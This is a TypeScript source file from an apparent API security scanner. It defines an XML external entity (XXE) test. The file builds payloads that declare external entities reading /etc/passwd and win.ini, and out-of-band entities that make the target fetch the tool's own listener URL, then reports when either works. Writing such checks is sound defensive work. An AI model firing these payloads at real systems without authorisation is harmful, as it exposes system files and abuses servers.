import type { Operation } from '@mockloop/spec-parser';
import type { TestExchange } from '../../model/exchange.ts';
import type { Observation } from '../../model/observation.ts';
import type { ProposedCase, TestCase } from '../../model/test-case.ts';
import { composeRequest } from '../../requests/compose-request.ts';
import { generateParts } from '../../requests/generate-parts.ts';
import type { CaseKind } from '../../run/case-kind.ts';
import type { Probe } from '../../run/probe.ts';
import { describeAnswer, isOk, textOf } from '../support/answers.ts';
import { canaryFor } from '../support/canary.ts';
import { observe } from '../support/observe.ts';
import { callable } from '../support/requests.ts';

/** External entities in XML: files, and addresses of a server of ours. */
export const XXE_KIND: CaseKind = {
  kind: 'xxe',
  phase: 'security',
  checks: ['xxe'],
  *propose(view): Iterable<ProposedCase> {
    for (const { key, risk } of callable(view).filter(({ risk }) => risk !== 'destructive')) {
      const mediaType = xmlOf(view.operation(key));
      if (mediaType !== undefined && risk !== 'environment')
        yield { operation: key, title: `external entities in ${mediaType}`, input: { mediaType } };
    }
  },
  run: tryEntities,
};

function xmlOf(operation: Operation | undefined): string | undefined {
  return operation?.requestBody?.content.find(({ mediaType }) => /\bxml\b/i.test(mediaType))?.mediaType;
}

async function tryEntities(testCase: TestCase, probe: Probe): Promise<readonly Observation[]> {
  const { mediaType } = testCase.input as { readonly mediaType: string };
  const key = testCase.operation ?? '';
  const operation = probe.operation(key);
  const success = await probe.succeed(key);
  const generated =
    operation && generateParts(operation, probe, { seed: probe.seed, mode: 'example', only: 'all', mediaType });
  if (operation === undefined || success === undefined || generated?.body === undefined) return [];
  const identity = success.request.identity;
  const written = composeRequest(
    operation,
    { ...success.parts, body: generated.body },
    { document: probe.document, identity },
  );
  const text = written.body !== undefined && 'text' in written.body ? written.body.text : '';
  const send = (xml: string): Promise<TestExchange> => probe.send({ ...written, body: { text: xml } });
  const plain = await send(text);
  if (!isOk(plain)) return [];
  return (await tryFile({ text, send, plain })) ?? (await tryListener(probe, { text, send, plain })) ?? [];
}

interface Xml {
  readonly text: string;
  readonly plain: TestExchange;
  readonly send: (xml: string) => Promise<TestExchange>;
}

/** The document with an entity declared, and used in place of its texts, one after the other. */
function withEntity(text: string, declaration: string): readonly string[] {
  const [, prolog = '', rest = ''] = /^(\s*<\?xml[^>]*\?>)?([\s\S]*)$/.exec(text) ?? [];
  const root = /<([\w:.-]+)/.exec(rest)?.[1];
  const texts = [...rest.matchAll(/>([^<>]*[^<>\s][^<>]*)<\//g)].slice(0, 4);
  return texts.map(
    ({ index, 0: { length } }) =>
      `${prolog}<!DOCTYPE ${root} [${declaration}]>${rest.slice(0, index)}>&mlc;</${rest.slice(index + length)}`,
  );
}

const FILES = [
  { path: 'file:///etc/passwd', marker: /\broot:[^:\n]*:0:0:/ },
  { path: 'file:///c:/windows/win.ini', marker: /\[(?:fonts|extensions)\]/i },
] as const;

async function tryFile({ text, send, plain }: Xml): Promise<readonly Observation[] | undefined> {
  for (const { path, marker } of FILES) {
    for (const xml of withEntity(text, `<!ENTITY mlc SYSTEM "${path}">`)) {
      const exchange = await send(xml);
      if (!marker.test(textOf(exchange)) || marker.test(textOf(plain))) continue;
      return [found(`An external entity put the file ${path} into the answer.`, exchange)];
    }
  }
  return undefined;
}

async function tryListener(probe: Probe, { text, send }: Xml): Promise<readonly Observation[] | undefined> {
  const listener = await probe.listener();
  const token = canaryFor(probe, 'entity');
  const url = listener.url(token);
  for (const declaration of [
    `<!ENTITY mlc SYSTEM "${url}">`,
    `<!ENTITY % out SYSTEM "${url}"> %out; <!ENTITY mlc "x">`,
  ]) {
    const [xml] = withEntity(text, declaration);
    if (xml === undefined) return undefined;
    const exchange = await send(xml);
    if ((await listener.calls(token, 300)).length > 0)
      return [found('An external entity had the server fetch an address of ours.', exchange)];
  }
  return undefined;
}

function found(message: string, exchange: TestExchange): Observation {
  return observe('xxe', {
    message,
    expected: 'document types are refused, or entities are not resolved',
    observed: describeAnswer(exchange),
    signature: 'external entity',
  });
}
